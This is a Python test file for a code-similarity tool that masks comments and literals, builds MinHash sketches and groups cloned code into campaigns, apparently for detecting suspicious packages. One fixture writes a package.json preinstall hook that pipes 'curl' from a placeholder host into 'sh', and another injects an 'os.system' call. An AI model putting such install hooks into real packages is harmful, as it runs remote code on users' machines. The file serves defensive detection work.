from __future__ import annotations

import json
import random
import time

import numpy as np
import pytest

from darnel.training.campaigns import campaigns, similar_pairs
from darnel.training.sketch import PERMUTATIONS, Sketch, Sketcher, token_hashes


def sketch(files: dict[str, bytes]) -> Sketch:
    sketcher = Sketcher()
    for path, data in files.items():
        sketcher.add(path, data)
    return sketcher.result()


def jaccard(a: Sketch, b: Sketch) -> float:
    return float((a.signature == b.signature).mean())


def program(seed: int, statements: int = 400) -> list[str]:
    draw = random.Random(seed)
    numbers = ((draw.randrange(999), draw.randrange(99), draw.randrange(999)) for _ in range(statements))
    return [f"v{a} = f{b}(v{c}, 'text')" for a, b, c in numbers]


PYTHON = """
# a comment
def send(host='a.example.invalid', port=8080):
    \"\"\"Docstring with # and 'quotes'.\"\"\"
    return post("x" + host, data={'k': 1.5e3}, retries=0x10)
"""


def test_comments_strings_numbers_and_space_do_not_count() -> None:
    other = PYTHON.replace("a.example", "very.other.example").replace("8080", "9").replace("# a comment", "#")
    other = other.replace("    return", "\treturn").replace('"x"', "'it\\'s'").replace("1.5e3", "77")
    assert sketch({"a.py": PYTHON.encode()}).body == sketch({"b.py": other.encode()}).body
    assert sketch({"a.py": PYTHON.encode()}).body != sketch({"a.py": PYTHON.replace("post", "put").encode()}).body


def test_javascript_is_masked_in_its_own_way() -> None:
    first = b'// c\nconst a = `t${x}`; /* x */ f(\'a\', "b\\"c", 12);'
    second = b"const a = `other\n`;f(\"\", '//', 1e9) /* \n */ ;"
    assert sketch({"a.js": first}).body == sketch({"a.ts": second.replace(b" /* \n */ ;", b";")}).body


def test_order_and_names_of_files_do_not_count_and_data_files_neither() -> None:
    a, b = "\n".join(program(1)).encode(), "\n".join(program(2)).encode()
    one, two = sketch({"a.py": a, "b.py": b, "x.bin": b"0", "README.md": b"text"}), sketch({"z/b.py": b, "q.py": a})
    assert one.body == two.body
    assert np.array_equal(one.signature, two.signature)


def test_similarity_is_estimated() -> None:
    base = program(3)
    changed = base[:200] + program(4)[:200]
    same, half, none = (sketch({"a.py": "\n".join(lines).encode()}) for lines in (base, changed, program(5)))
    assert jaccard(same, half) == pytest.approx(1 / 3, abs=0.12)
    assert jaccard(same, none) < 0.1
    injected = "\n".join([*base[:100], "import os", "os.system('x')", *base[100:]]).encode()
    assert jaccard(same, sketch({"a.py": injected})) > 0.9


def test_install_scripts_are_code() -> None:
    def manifest(command: str, name: str = "a") -> dict[str, bytes]:
        return {"package.json": json.dumps({"name": name, "scripts": {"preinstall": command, "test": name}}).encode()}

    first = sketch(manifest("curl http://a.example.invalid/1 | sh"))
    assert first.body
    assert first.body == sketch(manifest("curl http://b.example.invalid/2 | sh", "b")).body
    assert first.body != sketch(manifest("node index.js")).body
    assert sketch({"package.json": b'{"scripts": []}'}).body == ""
    assert sketch({"package.json": b"[" * 100_000}).body == ""


def test_no_code_has_an_empty_body() -> None:
    empty = sketch({"a.png": b"\0", "b.py": b"", "c.py": b"  \n# only a comment\n"})
    assert (empty.body, empty.shingles) == ("", 0)
    assert (empty.signature == 0xFFFFFFFF).all()


@pytest.mark.parametrize("text", ["ab1_$ + c==d", "é=1", "x", "a.b(1.5e3, .5)", "  a  ", "foo(bar)", "", "   "])
def test_tokens_are_words_and_single_marks(text: str) -> None:
    import re

    expected = re.findall(rb"(?:[A-Za-z0-9_$\x80-\xff]|(?<=\d)\.(?=\d))+|[^\s]", text.encode())
    hashes = token_hashes(text.encode()).tolist()
    assert len(hashes) == len(expected)
    seen: dict[bytes, int] = {}
    for token, value in zip(expected, hashes, strict=True):
        assert seen.setdefault(b"0" if token[:1].isdigit() else token, value) == value
    assert len(set(seen.values())) == len(seen)


@pytest.mark.parametrize(
    "unit", [b'"""', b"'''a", b"/*", b"`\\`", b'"\\"', b"\\", b"//", b"#", b"${`", b"'", b'"""\\"', b"\xff\xfe"]
)
@pytest.mark.parametrize("path", ["a.py", "a.js"])
def test_no_input_makes_masking_slow(unit: bytes, path: str) -> None:
    started = time.perf_counter()
    sketch({path: unit * (300_000 // len(unit))})
    assert time.perf_counter() - started < 2


def test_campaigns_join_clones_and_chains_of_them_and_nothing_else() -> None:
    base = program(6, 500)
    near = [*base[:470], *program(7, 30)]
    nearer = [*near[:440], *program(8, 30), *near[470:]]
    sketches = [sketch({"m.py": "\n".join(lines).encode()}) for lines in (base, near, nearer, base, program(9, 500))]
    empty = [sketch({}), sketch({}), sketch({})]
    assert jaccard(sketches[0], sketches[1]) >= 0.8 > 0.3 > jaccard(sketches[0], sketches[4])
    ids = campaigns([*sketches, *empty], [*(f"{i:016}" for i in range(5)), "e" * 40, "e" * 40, "f" * 40])
    assert ids[0] == ids[1] == ids[2] == ids[3]
    assert ids[5] == ids[6] == "e" * 12
    assert len({ids[0], ids[4], ids[5], ids[7]}) == 4
    assert ids[0] in {s.body[:12] for s in sketches[:4]}


def test_campaign_ids_come_from_the_code_and_not_from_its_place_in_the_list() -> None:
    sketches = [sketch({"m.py": "\n".join(program(i // 2, 200)).encode()}) for i in range(20)]
    contents = [f"{i:040}" for i in range(20)]
    order = random.Random(0).sample(range(20), 20)
    forward = campaigns(sketches, contents)
    shuffled = campaigns([sketches[i] for i in order], [contents[i] for i in order])
    assert [forward[i] for i in order] == shuffled
    assert len(set(forward)) == 10


def test_banding_finds_every_pair_above_the_threshold() -> None:
    draw = np.random.default_rng(0)
    base = draw.integers(0, 2**32, (60, PERMUTATIONS), dtype=np.uint32)
    signatures = np.repeat(base, 3, axis=0)
    for row in signatures:
        row[draw.choice(PERMUTATIONS, draw.integers(0, 30), replace=False)] = draw.integers(0, 2**32, dtype=np.uint32)
    found = set(similar_pairs(signatures))
    agree = (signatures[:, None, :] == signatures[None, :, :]).mean(axis=2)
    expected = {(i, j) for i in range(180) for j in range(i + 1, 180) if agree[i, j] >= 0.8}
    assert found == expected
    assert len(expected) > 60
